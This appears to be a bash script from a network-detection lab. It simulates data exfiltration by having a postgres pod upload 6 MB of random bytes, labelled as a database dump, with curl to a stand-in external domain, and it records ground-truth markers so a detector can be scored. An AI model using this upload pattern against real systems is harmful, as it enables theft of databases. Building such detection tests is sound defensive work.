#!/usr/bin/env bash
# Exfiltration: the postgres pod uploads 6 MB over HTTPS to a domain never contacted
# before (files.drop-box.lab.test).
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$EXT_DROP_IP"
gt_begin exfiltration exfiltration curl pod:postgres "ext:files.drop-box.lab.test=$EXT_DROP_IP" "HTTPS PUT of 6 MB (a 'database dump') to a new external domain"
head -c 6M /dev/urandom > "$LAB_RUN/dump.bin"
lab_exec "$(lab_pod_ns postgres)" timeout 60 curl -s -o /dev/null --max-time 50 --cacert "$LAB_RUN/tls/web.crt" \
  -T "$LAB_RUN/dump.bin" https://files.drop-box.lab.test/upload/db-dump.sql.gz || true
rm -f "$LAB_RUN/dump.bin"
gt_end '{"dport":443,"bytes":6291456}'
